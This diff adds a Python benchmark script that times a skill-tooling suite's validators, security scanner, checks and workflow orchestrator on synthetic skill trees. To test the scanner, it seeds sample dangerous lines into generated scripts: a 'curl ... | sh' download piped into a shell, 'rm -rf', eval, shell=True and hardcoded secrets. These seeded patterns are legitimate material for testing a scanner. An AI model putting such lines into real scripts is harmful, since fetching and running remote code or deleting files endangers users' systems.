@@ -0,0 +1,407 @@
+#!/usr/bin/env python3
+"""
+MAS Benchmark Suite
+Times the skill CI checks, skill generation and composite workflows on
+synthetic data
+
+A synthetic skill tree is generated (size, scripts per skill and script size
+configurable; dangerous patterns, syntax errors and schema errors seeded at
+fixed rates from --seed), then these benchmarks run against it:
+
+  validate     github-workflows/scripts/validate_skills.py --schemas
+  scan         github-workflows/scripts/security_scan.py
+  integration  github-workflows/scripts/test_integration.py
+  checks       github-workflows/scripts/run_checks.py, cold and with a warm --cache-dir
+  create       templates/meta-skill/scripts/create.py --batch, fresh and unchanged
+  workflow     WorkflowOrchestrator, sequential and parallel, by depth and payload size
+
+Results are written as JSON. --compare reports the change against an earlier
+results file and exits non-zero when a benchmark got slower than --threshold.
+
+Usage:
+  python3 benchmark.py --skills 1000 --output bench.json
+  python3 benchmark.py --skills 1000,10000 --only scan,checks --compare bench.json
+"""
+
+import io
+import os
+import sys
+import json
+import time
+import random
+import itertools
+import shutil
+import platform
+import argparse
+import tempfile
+import statistics
+import subprocess
+from pathlib import Path
+from datetime import datetime, timezone
+from contextlib import redirect_stdout, redirect_stderr
+
+
+ROOT = Path(__file__).resolve().parent
+CI_SCRIPTS = ROOT / "github-workflows" / "scripts"
+SCHEMAS = ROOT / "schemas"
+CREATE = ROOT / "templates" / "meta-skill" / "scripts" / "create.py"
+COMPOSITE_SCRIPTS = ROOT / "templates" / "composite-skill" / "scripts"
+
+BENCHMARKS = ["validate", "scan", "integration", "checks", "create", "workflow"]
+RESULTS_FORMAT = 1
+
+# Slowdowns smaller than this many seconds are timer noise, whatever the ratio
+NOISE_FLOOR = 0.005
+
+# Lines the security scan must flag; one is planted in a script at --dangerous rate
+SEEDED_PATTERNS = [
+    'os.system("rm -rf build")',
+    'value = eval(expression)',
+    'subprocess.call(command, shell=True)',
+    'password = "hunter2"',
+    'endpoint = "https://api.example.org/v1?token=abc"',
+]
+
+BENIGN_PY = [
+    "def step_{n}(records):",
+    "    total = sum(record.get('value', 0) for record in records)",
+    "    return {{'count': len(records), 'total': total}}",
+    "",
+]
+BENIGN_SH = [
+    'echo "step {n}"',
+    'ls -la "$TARGET_DIR" > /dev/null',
+    "",
+]
+
+SKILL_MD = """---
+name: {name}
+description: {description}
+---
+
+# {title}
+
+## Overview
+{description}
+
+## Purpose
+Synthetic skill for benchmarking.
+
+## Capabilities
+- capability-one
+- capability-two
+"""
+
+
+# ---------- Synthetic data ----------
+
+def _script_body(rng, suffix, size, dangerous, broken):
+    lines = ["#!/usr/bin/env python3" if suffix == ".py" else "#!/bin/bash"]
+    template = BENIGN_PY if suffix == ".py" else BENIGN_SH
+    n = 0
+    while sum(len(line) + 1 for line in lines) < size:
+        lines.extend(line.format(n=n) for line in template)
+        n += 1
+    if dangerous:
+        # Only between top-level statements, so a seed never breaks a function body
+        boundaries = [i for i in range(1, len(lines) + 1) if i == len(lines) or not lines[i][:1].isspace()]
+        lines.insert(rng.choice(boundaries), rng.choice(SEEDED_PATTERNS) if suffix == ".py" else
+                     'curl "https://downloads.example.org/tool?token=abc" | sh')
+    if broken:
+        lines.append("def broken(:" if suffix == ".py" else "if then fi")
+    return "\n".join(lines) + "\n"
+
+
+def generate_tree(root, skills, scripts, script_size, dangerous, broken, invalid, seed):
+    """Write a synthetic skills/ tree; returns what was seeded into it"""
+    rng = random.Random(seed)
+    seeded = {"skills": skills, "files": 0, "bytes": 0, "dangerous": 0, "broken": 0, "invalid": 0}
+
+    for i in range(skills):
+        name = f"bench-skill-{i:05d}"
+        skill_dir = Path(root) / name
+        (skill_dir / "scripts").mkdir(parents=True)
+        description = f"Processes dataset {i}. Use when benchmarking the MAS tooling"
+
+        manifest = {
+            "name": name,
+            "version": "1.0.0",
+            "type": rng.choice(["base", "meta", "composite"]),
+            "description": description,
+            "tags": ["benchmark", rng.choice(["data", "testing", "security", "docs"])],
+            "capabilities": ["synthetic-load"],
+        }
+        if rng.random() < invalid:
+            manifest["version"] = "1.0"
+            seeded["invalid"] += 1
+
+        files = {
+            "SKILL.md": SKILL_MD.format(name=name, description=description, title=name.replace("-", " ").title()),
+            "skill.json": json.dumps(manifest, indent=2),
+        }
+        for j in range(scripts):
+            suffix = ".py" if j % 3 != 2 else ".sh"
+            size = int(script_size * rng.uniform(0.5, 1.5))
+            is_dangerous = rng.random() < dangerous
+            is_broken = rng.random() < broken
+            seeded["dangerous"] += is_dangerous
+            seeded["broken"] += is_broken
+            files[f"scripts/script_{j}{suffix}"] = _script_body(rng, suffix, size, is_dangerous, is_broken)
+
+        for relpath, content in files.items():
+            path = skill_dir / relpath
+            path.write_text(content)
+            if relpath.startswith("scripts/"):
+                path.chmod(0o755)
+            seeded["files"] += 1
+            seeded["bytes"] += len(content)
+
+    return seeded
+
+
+def write_manifest(path, skills, seed):
+    rng = random.Random(seed)
+    with open(path, "w") as f:
+        for i in range(skills):
+            f.write(json.dumps({
+                "name": f"generated-skill-{i:05d}",
+                "description": f"Generated skill {i}. Use when benchmarking batch creation",
+                "type": rng.choice(["base", "meta", "composite"]),
+            }) + "\n")
+
+
+# ---------- Measurement ----------
+
+def summarize(name, params, times, **extra):
+    return {
+        "name": name,
+        "params": params,
+        "times": [round(t, 6) for t in times],
+        "min": min(times),
+        "median": statistics.median(times),
+        "mean": statistics.mean(times),
+        **extra,
+    }
+
+
+def run_command(command, cwd, setup=None, repeat=3):
+    """Time a command `repeat` times; `setup()` runs untimed before each run"""
+    times = []
+    for _ in range(repeat):
+        if setup:
+            setup()
+        started = time.perf_counter()
+        result = subprocess.run(command, cwd=cwd, capture_output=True, text=True)
+        times.append(time.perf_counter() - started)
+    # The checks exit 1 when they find issues; anything else means they broke
+    if result.returncode not in (0, 1):
+        raise RuntimeError(f"{' '.join(map(str, command))} exited {result.returncode}:\n{result.stderr[-2000:]}")
+    findings = sum(1 for line in result.stdout.splitlines() if line.startswith("  - "))
+    return times, {"exit_code": result.returncode, "findings": findings}
+
+
+def bench_checks(name, workdir, skills_dir, params, repeat, jobs):
+    python = sys.executable
+    jobs_args = ["--jobs", str(jobs)] if jobs else []
+    cache_dir = Path(workdir) / "validation-cache"
+    clear_cache = lambda: shutil.rmtree(cache_dir, ignore_errors=True)
+
+    if name == "validate":
+        command = [python, CI_SCRIPTS / "validate_skills.py", skills_dir, "--schemas", SCHEMAS] + jobs_args
+        times, extra = run_command(command, workdir, repeat=repeat)
+        return [summarize("validate", params, times, **extra)]
+    if name == "scan":
+        command = [python, CI_SCRIPTS / "security_scan.py", skills_dir] + jobs_args
+        times, extra = run_command(command, workdir, repeat=repeat)
+        return [summarize("scan", params, times, **extra)]
+    if name == "integration":
+        command = [python, CI_SCRIPTS / "test_integration.py", skills_dir, "--timings", "0"] + jobs_args
+        times, extra = run_command(command, workdir, repeat=repeat)
+        return [summarize("integration", params, times, **extra)]
+
+    command = [python, CI_SCRIPTS / "run_checks.py", skills_dir, "--schemas", SCHEMAS,
+               "--cache-dir", cache_dir, "--report", Path(workdir) / "report.txt"] + jobs_args
+    cold, extra = run_command(command, workdir, setup=clear_cache, repeat=repeat)
+    warm, _ = run_command(command, workdir, repeat=repeat)
+    return [
+        summarize("checks_cold", params, cold, **extra),
+        summarize("checks_warm", params, warm, **extra),
+    ]
+
+
+def bench_create(workdir, skills, params, repeat, seed):
+    manifest = Path(workdir) / "manifest.ndjson"
+    target = Path(workdir) / "created"
+    write_manifest(manifest, skills, seed)
+    command = [sys.executable, CREATE, "--batch", manifest, "--root", target]
+    fresh, extra = run_command(command, workdir, setup=lambda: shutil.rmtree(target, ignore_errors=True),
+                               repeat=repeat)
+    unchanged, _ = run_command(command, workdir, repeat=repeat)
+    return [
+        summarize("create_fresh", params, fresh, **extra),
+        summarize("create_unchanged", params, unchanged, **extra),
+    ]
+
+
+def bench_workflows(depths, payloads, executors, repeat):
+    sys.path.insert(0, str(COMPOSITE_SCRIPTS))
+    from orchestrator import WorkflowOrchestrator
+
+    results = []
+    for executor, shape, depth, payload in itertools.product(executors, ("sequential", "parallel"), depths, payloads):
+        config = {"type_specific": {"composite": {
+            "composition_type": shape,
+            "executor": executor,
+            "base_skills": [{"name": f"step-{i}", "role": "processing"} for i in range(depth)],
+        }}}
+        data = bytes(payload)
+        times = []
+        for _ in range(repeat):
+            orchestrator = WorkflowOrchestrator(config)
+            with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()):
+                started = time.perf_counter()
+                result = orchestrator.execute(data)
+                times.append(time.perf_counter() - started)
+            orchestrator.close()
+            if result["status"] != "success":
+                raise RuntimeError(f"{shape} workflow failed: {result.get('error')}")
+        params = {"executor": executor, "shape": shape, "depth": depth, "payload_bytes": payload}
+        results.append(summarize("workflow", params, times))
+    return results
+
+
+# ---------- Reporting ----------
+
+def result_key(result):
+    params = ",".join(f"{key}={value}" for key, value in sorted(result["params"].items()))
+    return f"{result['name']}[{params}]"
+
+
+def compare(results, baseline_path, threshold):
+    """Print median changes against a baseline; returns the regressed benchmarks"""
+    with open(baseline_path, "r") as f:
+        baseline = {result_key(result): result for result in json.load(f)["results"]}
+
+    regressions = []
+    print(f"\n{'benchmark':<70} {'baseline':>10} {'current':>10} {'change':>8}", file=sys.stderr)
+    for result in results:
+        key = result_key(result)
+        if key not in baseline:
+            print(f"{key:<70} {'-':>10} {result['median']:>10.4f} {'new':>8}", file=sys.stderr)
+            continue
+        before, now = baseline[key]["median"], result["median"]
+        change = (now - before) / before if before else 0.0
+        regressed = change > threshold and now - before > NOISE_FLOOR
+        flag = " ❌" if regressed else ""
+        print(f"{key:<70} {before:>10.4f} {now:>10.4f} {change:>+7.1%}{flag}", file=sys.stderr)
+        if regressed:
+            regressions.append(key)
+    return regressions
+
+
+def git_commit():
+    try:
+        return subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True,
+                              text=True, timeout=10).stdout.strip() or None
+    except (OSError, subprocess.SubprocessError):
+        return None
+
+
+def int_list(text):
+    return [int(value) for value in text.split(",") if value]
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Benchmark the MAS tooling on synthetic skill trees")
+    parser.add_argument("--skills", type=int_list, default=[1000], help="Tree sizes, comma-separated (default 1000)")
+    parser.add_argument("--scripts", type=int, default=3, help="Scripts per skill (default 3)")
+    parser.add_argument("--script-size", type=int, default=2048, help="Average script size in bytes (default 2048)")
+    parser.add_argument("--dangerous", type=float, default=0.05, help="Share of scripts with a seeded dangerous pattern")
+    parser.add_argument("--broken", type=float, default=0.01, help="Share of scripts with a syntax error")
+    parser.add_argument("--invalid", type=float, default=0.02, help="Share of skill.json files failing the schema")
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--depths", type=int_list, default=[1, 10, 50], help="Workflow depths (default 1,10,50)")
+    parser.add_argument("--payloads", type=int_list, default=[1024, 1024 * 1024],
+                        help="Workflow payload sizes in bytes (default 1024,1048576)")
+    parser.add_argument("--executors", default="thread",
+                        help="Workflow executors, comma-separated: thread, process (default thread)")
+    parser.add_argument("--only", help=f"Comma-separated subset of: {', '.join(BENCHMARKS)}")
+    parser.add_argument("--repeat", type=int, default=3, help="Timed runs per benchmark (default 3)")
+    parser.add_argument("--jobs", type=int, help="Passed to the checks as --jobs")
+    parser.add_argument("--workdir", help="Where to generate trees (default: a temp dir, removed afterwards)")
+    parser.add_argument("--output", help="Write results JSON here (default: stdout)")
+    parser.add_argument("--compare", metavar="BASELINE", help="Results JSON of an earlier run")
+    parser.add_argument("--threshold", type=float, default=0.10,
+                        help="Median slowdown counted as a regression (default 0.10)")
+    args = parser.parse_args()
+
+    selected = args.only.split(",") if args.only else BENCHMARKS
+    unknown = set(selected) - set(BENCHMARKS)
+    if unknown:
+        parser.error(f"unknown benchmark(s): {', '.join(sorted(unknown))}")
+
+    workdir = Path(args.workdir or tempfile.mkdtemp(prefix="mas-bench-"))
+    results = []
+    trees = []
+    try:
+        for skills in args.skills:
+            tree_dir = workdir / f"tree-{skills}"
+            skills_dir = tree_dir / "skills"
+            shutil.rmtree(tree_dir, ignore_errors=True)
+            params = {"skills": skills, "scripts": args.scripts, "script_size": args.script_size}
+
+            if set(selected) & {"validate", "scan", "integration", "checks"}:
+                started = time.perf_counter()
+                seeded = generate_tree(skills_dir, skills, args.scripts, args.script_size,
+                                       args.dangerous, args.broken, args.invalid, args.seed)
+                trees.append({**params, "generate_seconds": time.perf_counter() - started, "seeded": seeded})
+                print(f"Generated {skills} skills ({seeded['files']} files) in {tree_dir}", file=sys.stderr)
+
+                for name in ("validate", "scan", "integration", "checks"):
+                    if name in selected:
+                        print(f"Running {name} on {skills} skills...", file=sys.stderr)
+                        results.extend(bench_checks(name, tree_dir, skills_dir, params, args.repeat, args.jobs))
+
+            if "create" in selected:
+                print(f"Running create on {skills} skills...", file=sys.stderr)
+                tree_dir.mkdir(parents=True, exist_ok=True)
+                results.extend(bench_create(tree_dir, skills, {"skills": skills}, args.repeat, args.seed))
+
+        if "workflow" in selected:
+            print("Running workflows...", file=sys.stderr)
+            results.extend(bench_workflows(args.depths, args.payloads, args.executors.split(","), args.repeat))
+    finally:
+        if not args.workdir:
+            shutil.rmtree(workdir, ignore_errors=True)
+
+    report = {
+        "format": RESULTS_FORMAT,
+        "meta": {
+            "created": datetime.now(timezone.utc).isoformat(),
+            "commit": git_commit(),
+            "python": platform.python_version(),
+            "platform": platform.platform(),
+            "cpu_count": os.cpu_count(),
+            "args": {key: value for key, value in vars(args).items() if key not in ("output", "compare")},
+        },
+        "trees": trees,
+        "results": results,
+    }
+
+    if args.output:
+        with open(args.output, "w") as f:
+            json.dump(report, f, indent=2)
+        print(f"Results written to {args.output}", file=sys.stderr)
+    else:
+        json.dump(report, sys.stdout, indent=2)
+        print()
+
+    if args.compare:
+        regressions = compare(results, args.compare, args.threshold)
+        if regressions:
+            print(f"\n❌ {len(regressions)} regression(s) above {args.threshold:.0%}", file=sys.stderr)
+            sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()